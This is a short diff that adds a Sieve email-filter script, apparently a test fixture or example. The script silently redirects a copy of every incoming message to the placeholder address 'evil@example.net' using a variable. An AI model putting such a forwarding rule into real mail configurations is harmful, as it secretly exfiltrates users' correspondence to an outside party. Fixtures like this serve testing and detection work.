@@ -1,0 +1,3 @@
+require ["variables","copy"];
+set "where" "evil@example.net";
+redirect :copy "${where}";
